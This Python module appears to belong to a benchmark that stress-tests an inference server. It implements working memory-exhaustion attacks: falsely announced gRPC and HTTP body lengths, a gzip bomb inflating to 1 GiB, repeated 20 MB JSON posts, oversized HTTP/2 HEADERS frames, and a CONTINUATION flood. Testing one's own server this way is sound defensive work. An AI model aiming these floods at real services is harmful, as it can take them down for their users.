"""Memory sized by the client: lengths announced and never sent, a compression bomb, huge header blocks,
large JSON bodies at once."""

from __future__ import annotations

import json
import socket
import threading
import time
from typing import Any

import numpy as np

from ray_triton_shm._private.bench.attacks import wire
from ray_triton_shm._private.bench.attacks.catalog import Attack, count, hold
from ray_triton_shm._private.bench.attacks.wire import Target

MiB = 1 << 20


def grpc_announced_lengths(target: Target, until: float, scale: float) -> dict[str, Any]:
    """16 connections, two calls each whose 5-byte prefix announces 512 MiB; 60 KB sent, then nothing."""
    block = wire.request_block(wire.INFER_PATH)
    sent_part = (512 * MiB).to_bytes(4, "big").rjust(5, b"\x00") + b"\x01" * 60000
    sockets: list[socket.socket] = []
    try:
        for _ in range(count(16, scale)):
            s = wire.connect(target.host, target.grpc_port)
            sockets.append(s)
            wire.send_quietly(s, wire.H2_PREFACE + wire.settings())
            for stream in (1, 3):
                wire.send_quietly(s, wire.frame(wire.HEADERS, wire.END_HEADERS, stream, block))
                wire.send_data(s, stream, sent_part, min(until, time.monotonic() + 2), end_stream=False)
        hold(until)
        closed = sum(wire.closed_by_peer(s) for s in sockets)
        return {"announced MiB": 512 * 2 * len(sockets), "closed by server": closed}
    finally:
        wire.close_all(sockets)


def http_announced_lengths(target: Target, until: float, scale: float) -> dict[str, Any]:
    """16 HTTP heads announcing a 64 MiB body each; 64 KB sent, then nothing."""
    head = (
        b"POST /v2/models/identity/infer HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
        b"Content-Length: %d\r\n\r\n" % (64 * MiB)
    )
    sockets: list[socket.socket] = []
    try:
        for _ in range(count(16, scale)):
            s = wire.connect(target.host, target.http_port)
            sockets.append(s)
            wire.send_quietly(s, head + b"[" * 65536)
        hold(until)
        closed = sum(wire.closed_by_peer(s) for s in sockets)
        return {"announced MiB": 64 * len(sockets), "closed by server": closed}
    finally:
        wire.close_all(sockets)


JSON_NUMBERS = 1_000_000
"""Numbers in each ``http-json-bodies`` body (about 20 MB of JSON text)."""


def _json_identity(numbers: int) -> bytes:
    """A KServe v2 ``identity`` request of ``numbers`` FP32 values as a JSON array (its answer binary)."""
    values = np.random.default_rng(0).random(numbers, dtype=np.float32).tolist()
    body = json.dumps(
        {
            "inputs": [{"name": "INPUT0", "shape": [1, numbers], "datatype": "FP32", "data": values}],
            "outputs": [{"name": "OUTPUT0", "parameters": {"binary_data": True}}],
        }
    ).encode()
    head = (
        b"POST /v2/models/identity/infer HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
        b"Content-Length: %d\r\n\r\n" % len(body)
    )
    return head + body


def _read_answer(s: socket.socket) -> bool:
    """Read one HTTP answer whole; whether it was a 200."""
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = s.recv(1 << 16)
        if not chunk:
            return False
        data += chunk
    head, _, rest = data.partition(b"\r\n\r\n")
    length = int(head.lower().split(b"\r\ncontent-length: ")[1].split(b"\r\n")[0])
    while len(rest) < length:
        chunk = s.recv(1 << 20)
        if not chunk:
            return False
        rest += chunk
    return head.startswith(b"HTTP/1.1 200 ")


def http_json_bodies(target: Target, until: float, scale: float) -> dict[str, Any]:
    """8 HTTP clients posting ``identity`` bodies of 1,000,000 numbers as JSON (20 MB), over and over."""
    request = _json_identity(JSON_NUMBERS)
    answered, not_answered = [0], [0]
    lock = threading.Lock()

    def post_until() -> None:
        while time.monotonic() < until:
            try:
                with wire.connect(target.host, target.http_port, timeout=60) as s:
                    s.sendall(request)
                    ok = _read_answer(s)
            except OSError:
                ok = False
            with lock:
                if ok:
                    answered[0] += 1
                else:
                    not_answered[0] += 1

    clients = [threading.Thread(target=post_until, daemon=True) for _ in range(count(8, scale))]
    for client in clients:
        client.start()
    for client in clients:
        client.join(until - time.monotonic() + 120)
    return {"JSON MB": round(len(request) / 1e6, 1), "answered": answered[0], "not answered": not_answered[0]}


def grpc_gzip_bomb(target: Target, until: float, scale: float) -> dict[str, Any]:
    """Two gzip-compressed gRPC messages (``grpc-encoding: gzip``) of 1 MB each that inflate to 1 GiB."""
    inflated = max(MiB, int(1024 * scale) * MiB)
    bomb = wire.grpc_framed(wire.gzip_bomb(inflated), compressed=True)
    block = wire.request_block(wire.INFER_PATH, ("grpc-encoding", "gzip"), ("grpc-accept-encoding", "gzip"))
    sockets: list[socket.socket] = []
    answered = 0
    try:
        for _ in range(2):
            s = wire.connect(target.host, target.grpc_port)
            sockets.append(s)
            wire.send_quietly(s, wire.H2_PREFACE + wire.settings())
            wire.send_quietly(s, wire.frame(wire.HEADERS, wire.END_HEADERS, 1, block))
            wire.send_data(s, 1, bomb, min(until, time.monotonic() + 10))
        hold(until)
        for s in sockets:
            answered += bool(_answered(s))
        return {"inflated MiB each": inflated // MiB, "calls": len(sockets), "answered": answered}
    finally:
        wire.close_all(sockets)


def _answered(s: socket.socket) -> bool:
    """Whether anything came back on ``s`` (an answer, a reset, GOAWAY) without waiting."""
    try:
        s.setblocking(False)
        return bool(s.recv(1 << 16))
    except BlockingIOError:
        return False
    except OSError:
        return True


def _literal_block(size: int) -> bytes:
    """An HPACK block of ``size`` bytes or so: literal headers, never indexed, 1000-byte values."""
    value = b"a" * 1000
    parts = []
    i = 0
    while sum(map(len, parts)) < size:
        name = b"x-pad-%d" % i
        # literal without indexing, new name; lengths as HPACK integers with a 7-bit prefix
        parts.append(b"\x00" + _hpack_int(len(name)) + name + _hpack_int(len(value)) + value)
        i += 1
    return b"".join(parts)


def _hpack_int(n: int) -> bytes:
    if n < 127:
        return bytes([n])
    out = bytearray([127])
    n -= 127
    while n >= 128:
        out.append(n % 128 + 128)
        n //= 128
    out.append(n)
    return bytes(out)


def _header_attack(target: Target, until: float, scale: float, *, continuation: bool) -> dict[str, Any]:
    start = wire.request_block(wire.LIVE_PATH)
    block = start + _literal_block(4 * MiB)
    sockets: list[socket.socket] = []
    try:
        for _ in range(count(4, scale)):
            s = wire.connect(target.host, target.grpc_port)
            sockets.append(s)
            wire.send_quietly(s, wire.H2_PREFACE + wire.settings())
            if continuation:  # 16 KB frames: HEADERS, then CONTINUATION after CONTINUATION
                pieces = [block[i : i + 16384] for i in range(0, len(block), 16384)]
                frames = [wire.frame(wire.HEADERS, 0, 1, pieces[0])]
                for j, piece in enumerate(pieces[1:], 1):
                    last = wire.END_HEADERS if j == len(pieces) - 1 else 0
                    frames.append(wire.frame(wire.CONTINUATION, last, 1, piece))
                data = b"".join(frames)
            else:  # one HEADERS frame of 4 MiB (past the 16 KB maximum frame size)
                data = wire.frame(wire.HEADERS, wire.END_HEADERS | wire.END_STREAM, 1, block)
            s.settimeout(max(0.1, until - time.monotonic()))
            wire.send_quietly(s, data)
        hold(until)
        closed = sum(wire.closed_by_peer(s) for s in sockets)
        return {"connections": len(sockets), "block MiB": 4, "closed by server": closed}
    finally:
        wire.close_all(sockets)


def h2_huge_headers(target: Target, until: float, scale: float) -> dict[str, Any]:
    """4 connections, each one HEADERS frame of 4 MiB (literal headers)."""
    return _header_attack(target, until, scale, continuation=False)


def h2_continuation_flood(target: Target, until: float, scale: float) -> dict[str, Any]:
    """4 connections, each a 4 MiB header block in 16 KB CONTINUATION frames."""
    return _header_attack(target, until, scale, continuation=True)


ATTACKS = (
    Attack(
        name="grpc-announced-lengths",
        kind="memory",
        protocol="grpc",
        run=grpc_announced_lengths,
        summary="32 gRPC messages announcing 512 MiB each, 60 KB sent",
    ),
    Attack(
        name="http-announced-lengths",
        kind="memory",
        protocol="http",
        run=http_announced_lengths,
        summary="16 HTTP heads announcing 64 MiB each, 64 KB sent",
    ),
    Attack(
        name="grpc-gzip-bomb",
        kind="memory",
        protocol="grpc",
        run=grpc_gzip_bomb,
        summary="2 gzip gRPC messages of 1 MB inflating to 1 GiB",
    ),
    Attack(
        name="http-json-bodies",
        kind="memory",
        protocol="http",
        run=http_json_bodies,
        summary="8 HTTP clients posting 20 MB JSON bodies (10^6 numbers) over and over",
    ),
    Attack(
        name="h2-huge-headers",
        kind="memory",
        protocol="grpc",
        run=h2_huge_headers,
        summary="4 HEADERS frames of 4 MiB",
    ),
    Attack(
        name="h2-continuation-flood",
        kind="memory",
        protocol="grpc",
        run=h2_continuation_flood,
        summary="4 header blocks of 4 MiB in CONTINUATION frames",
    ),
)
